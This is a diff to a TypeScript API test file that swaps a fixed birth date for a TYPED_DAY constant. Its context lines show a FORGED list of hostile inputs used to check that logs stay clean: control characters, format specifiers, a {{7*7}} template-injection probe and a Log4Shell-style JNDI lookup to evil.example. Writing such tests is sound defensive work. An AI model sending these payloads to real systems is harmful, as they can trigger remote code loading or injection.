@@ -3,7 +3,7 @@ import { randomUUID } from 'node:crypto';
 import pg from 'pg';
 import { TestApi } from '#support/api';
 import { newPost, openMove, REQUEST_BY_API } from '#support/by-api';
-import { TYPED, wrongLines } from './quiet.js';
+import { TYPED, TYPED_DAY, wrongLines } from './quiet.js';
 import { requestOf, sendRaw } from './raw.js';
 import { addressOf, describedBy, fieldsOf, type Target, WHOLE, withValue } from './surface.js';
 
@@ -27,7 +27,7 @@ const FORGED = [
   `${TYPED}\u0000\u0007\u0008\u2028\u2029\u0085`,
   `${TYPED} %s %o %j \${jndi:ldap://evil.example/x} {{7*7}}`,
 ];
-const WORDS = `Born on 2012-05-04, ${TYPED} lives at 1 Nowhere Street`;
+const WORDS = `Born on ${TYPED_DAY}, ${TYPED} lives at 1 Nowhere Street`;
 
 const isClean = (): void => {
   expect(wrongLines(api.log)).toEqual([]);
